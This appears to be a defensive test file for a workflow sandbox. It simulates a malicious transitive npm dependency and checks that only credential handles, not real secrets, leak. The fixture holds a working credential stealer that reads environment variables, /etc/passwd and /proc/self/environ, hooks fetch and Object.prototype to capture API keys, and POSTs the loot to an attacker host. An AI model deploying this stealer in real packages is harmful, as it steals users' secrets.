/** A package that steals, three dependencies down, in a workflow whose own code means no harm. */
import { afterAll, beforeAll, expect, test } from 'vitest'
import { startRegistry, type StandInRegistry } from '../../server/src/sandbox/build/testing/registry.ts'
import { House } from './house/house.ts'

let registry: StandInRegistry
let house: House
beforeAll(async () => {
  registry = await startRegistry()
  house = await House.open({ BELLHOP_NPM_REGISTRY: registry.url })
  registry.publish(
    {
      name: 'desk-client',
      version: '1.0.0',
      json: { main: 'index.js', dependencies: { 'http-nice': '^1.0.0' } },
      files: { 'index.js': `exports.call = require('http-nice').call` }
    },
    {
      name: 'http-nice',
      version: '1.0.0',
      json: { main: 'index.js', dependencies: { 'left-trim': '^1.0.0' } },
      files: {
        'index.js': `const trim = require('left-trim')
          exports.call = (url, key) => fetch(url, { headers: { authorization: trim('Bearer ' + key) } })`
      }
    },
    {
      name: 'left-trim',
      version: '1.0.0',
      json: { main: 'index.js', scripts: { preinstall: 'touch /tmp/never', postinstall: 'touch /tmp/never' } },
      files: { 'index.js': STEALER }
    }
  )
})
afterAll(async () => {
  await house?.close()
  await registry?.close()
})

/** Takes what passes by, and what it can see, and sends it away in all the ways it knows. */
const STEALER = `
  const fs = require('fs')
  const seen = new Set()
  const attempt = (work) => { try { const got = work(); if (got) seen.add(String(got)) } catch {} }
  attempt(() => JSON.stringify(process.env))
  attempt(() => fs.readFileSync('/etc/passwd', 'utf8'))
  attempt(() => fs.readFileSync('/proc/self/environ', 'latin1'))
  attempt(() => require('child_process').execSync('env'))
  const real = globalThis.fetch
  globalThis.fetch = async (url, options = {}) => {
    seen.add(JSON.stringify(options.headers))
    const answer = await real(url, options)
    seen.add(JSON.stringify([...answer.headers]) + await answer.clone().text())
    const loot = [...seen].join('\\n')
    const { elsewhere } = globalThis
    for (const body of [loot, btoa(unescape(encodeURIComponent(loot)))]) {
      await real('http://' + elsewhere, { method: 'POST', body }).catch(() => {})
      await new Promise((resolve) => require('https').request('https://' + elsewhere, { method: 'POST' }).on('error', resolve).on('close', resolve).end(body))
    }
    return answer
  }
  Object.defineProperty(Object.prototype, 'api_key', { configurable: true, set(value) { seen.add(value); Object.defineProperty(this, 'api_key', { value, enumerable: true, configurable: true, writable: true }) } })
  module.exports = (text) => { seen.add(text); return text.trimStart() }`

const CODE = `import { call } from 'desk-client@1.0.0'
  export default { props: { parcels: { type: 'app', app: 'parcels' } }, async run({ steps }) {
    globalThis.elsewhere = steps.trigger.event.body.elsewhere
    return (await call('http://' + steps.trigger.event.body.app, this.parcels.$auth.api_key)).status
  } }`

test('gets nothing but handles', async () => {
  const { app, elsewhere } = house
  const { status, body } = await house.attack({ code: CODE, settings: { env: { REGION: 'eu' } } }, { app, elsewhere })
  expect([status, body]).toEqual([200, 200])
  expect(house.vendor.got.at(-1)?.headers.authorization).toBe(`Bearer ${house.credential}`)
  const loot = house.thief.bytes.toString('latin1')
  expect(loot).toMatch(/bhdl\.parcels\.api_key\./)
  expect(loot).toContain('"REGION":"eu"')
  expect(loot).not.toMatch(/root:|CANARY|PATH=/)
  await house.judge()
})

test('which would be seen: with a real value in the handle’s place the stealer sends it', async () => {
  await house.forgetting(async () => {
    const { app, elsewhere } = house
    // A credential that nobody bound is data, and passes.
    const code = CODE.replace('this.parcels.$auth.api_key', 'steps.trigger.event.body.data')
    const data = house.credential
    await house.call(await house.deploy({ code }), { key: 'another-credential', data, app, elsewhere })
    expect(house.found()).toContainEqual(expect.stringMatching(/^credential in the thief/) as string)
  })
})
